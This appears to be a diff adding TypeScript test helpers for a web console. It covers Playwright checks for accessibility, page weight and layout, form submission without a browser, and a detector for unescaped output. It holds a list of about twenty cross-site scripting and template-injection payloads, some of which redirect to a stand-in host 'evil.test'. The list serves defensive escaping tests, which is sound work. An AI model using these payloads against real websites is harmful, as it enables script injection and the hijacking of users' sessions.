@@ -1,0 +1,149 @@
+import type { BrowserContextOptions, Page } from 'playwright-core';
+import { accessibilityFaults, type TestBrowser } from './browser';
+import { elementsOf } from './html';
+import type { Person } from './people';
+import type { Reply } from './usher';
+
+const base = 'http://usher.test';
+const heaviest = 100 * 1024;
+
+export const desktop: BrowserContextOptions = { viewport: { width: 1280, height: 900 } };
+/** The smallest phone that the console is for. */
+export const phone: BrowserContextOptions = { viewport: { width: 360, height: 740 }, hasTouch: true };
+
+/** A browser window in which the person is signed in. */
+export async function windowOf(
+  browser: TestBrowser,
+  person: Person,
+  options: BrowserContextOptions = desktop,
+): Promise<Page> {
+  const page = await browser.person(options);
+  const value = person.cookies.get('usher_session') ?? '';
+  await page.context().addCookies([{ name: 'usher_session', value, url: base }]);
+  return page;
+}
+
+/** Opens a screen. @returns what is wrong with it: a bad answer, weight, overflow, accessibility */
+export async function open(page: Page, path: string, axe = true): Promise<string[]> {
+  const response = await page.goto(base + path);
+  const weight = (await response?.body())?.length ?? 0;
+  const faults = await look(page, axe);
+  if (response?.status() !== 200) faults.push(`status ${response?.status()}`);
+  if (weight > heaviest) faults.push(`${weight} bytes`);
+  return faults.map((fault) => `${path}: ${fault}`);
+}
+
+/** The same for the screen that is before somebody now. */
+export async function look(page: Page, axe = true): Promise<string[]> {
+  const faults = axe ? await accessibilityFaults(page) : [];
+  const [tooWide, missing] = await page.evaluate<[number, string | null]>(
+    `[document.documentElement.scrollWidth - document.documentElement.clientWidth,
+      document.querySelector('main').innerText.match(/\\b(console|errors|users|pages)(\\.[a-zA-Z-]+){2,}/)?.[0] ?? null]`,
+  );
+  if (tooWide > 0) faults.push(`${tooWide} px too wide`);
+  if (missing) faults.push(`no words for ${missing}`);
+  return faults;
+}
+
+/** Opens screens on a desktop and on a phone, in English and German, light and dark, with JavaScript and without. */
+export async function inspect(browser: TestBrowser, person: Person, paths: string[]): Promise<string[]> {
+  const faults: string[] = [];
+  const variants: [BrowserContextOptions, string, boolean][] = [
+    [desktop, 'en', true],
+    [{ ...phone, colorScheme: 'dark' }, 'de', true],
+    [{ ...phone, javaScriptEnabled: false }, 'en', false],
+  ];
+  for (const [options, lang, axe] of variants) {
+    const page = await windowOf(browser, person, options);
+    for (const path of paths)
+      faults.push(...(await open(page, `${path}${path.includes('?') ? '&' : '?'}lang=${lang}`, axe)));
+    await page.context().close();
+  }
+  return faults;
+}
+
+/** A form of a page without a browser: its fields as they stand, to be sent as often as one likes. */
+export async function formOn(
+  person: Person,
+  path: string,
+  action: string,
+): Promise<(fields?: Record<string, string | string[]>) => Promise<Reply>> {
+  const { text } = await person.call('GET', path);
+  const form = [...text.matchAll(/<form\b[^>]*>[\s\S]*?<\/form>/g)]
+    .map(([found]) => found)
+    .find((found) => {
+      const attributes = elementsOf(`<html>${found}</html>`).find(({ name }) => name === 'form')?.attributes;
+      return attributes?.['method'] === 'post' && attributes['action'] === action;
+    });
+  if (!form) throw new Error(`no form for ${action} on ${path}`);
+  const standing = elementsOf(`<html>${form}</html>`).flatMap(
+    ({ name, attributes, text: inside }): [string, string][] => {
+      const named = attributes['name'];
+      if (!named) return [];
+      if (name === 'textarea') return [[named, inside]];
+      if (name !== 'input') return [];
+      const box = ['checkbox', 'radio'].includes(attributes['type'] ?? '');
+      return box && attributes['checked'] === undefined ? [] : [[named, attributes['value'] ?? '']];
+    },
+  );
+  return (fields = {}) => {
+    const body = new URLSearchParams(standing.filter(([name]) => !(name in fields)));
+    for (const [name, value] of Object.entries(fields)) for (const one of [value].flat()) body.append(name, one);
+    return person.call('POST', action, body.toString(), {
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    });
+  };
+}
+
+/** 200 texts that would be active anywhere, if anything that shows them forgot to escape. */
+export const hostileTexts = (): string[] =>
+  Array.from({ length: 200 }, (_, index) => {
+    const shape = shapes[index % shapes.length] ?? '';
+    return `${shape}${index}`;
+  });
+
+const shapes = [
+  '<script>window.hacked=1</script>',
+  '<img src=x onerror="window.hacked=1">',
+  '"><svg onload="window.hacked=1">',
+  "' autofocus onfocus='window.hacked=1' x='",
+  '{{constructor.constructor("window.hacked=1")()}}',
+  '{{{this}}}{{#each .}}',
+  'javascript:window.hacked=1//',
+  '</title><script>window.hacked=1</script>',
+  '</textarea><script>window.hacked=1</script>',
+  '--><script>window.hacked=1</script><!--',
+  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
+  '${window.hacked=1} `window.hacked=1`',
+  '\u202Egnp.exe <b onmouseover=window.hacked=1>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>">',
+  '<a href="javascript:window.hacked=1">',
+  '<style>*{display:none}</style>',
+  '<base href="//evil.test/"><form action=//evil.test>',
+  '<meta http-equiv=refresh content="0;url=//evil.test">',
+  ']]><![CDATA[<script>window.hacked=1</script>',
+  '$t(language) $& %s \\" <!-- -->',
+];
+
+/** Elements and attributes that come from a hostile text, if a page has any. */
+export function activeParts(reply: Reply): string[] {
+  return elementsOf(reply.text).flatMap(({ name, attributes }) => [
+    ...(['iframe', 'style', 'base'].includes(name) ? [name] : []),
+    ...(name === 'script' && !/^\/assets\//.test(attributes['src'] ?? '') ? ['script'] : []),
+    ...(name === 'meta' && attributes['http-equiv'] ? ['meta'] : []),
+    ...Object.entries(attributes).flatMap(([key, value]) =>
+      /^on/i.test(key) || (/^(href|action|formaction|src)$/.test(key) && !/^(\/|#)/.test(value))
+        ? [`${key}=${value}`]
+        : [],
+    ),
+  ]);
+}
+
+export const textOf = (reply: Reply, element: string): string =>
+  (elementsOf(reply.text).find(({ name }) => name === element)?.text ?? '').replace(/\s+/g, ' ').trim();
+
+/** What one sees after a form was taken: the screen that it leads to. */
+export async function after(person: Person, reply: Reply): Promise<Reply> {
+  if (reply.status !== 303) throw new Error(`not taken: ${reply.status} ${textOf(reply, 'main')}`);
+  return person.call('GET', reply.headers['location'] ?? '');
+}
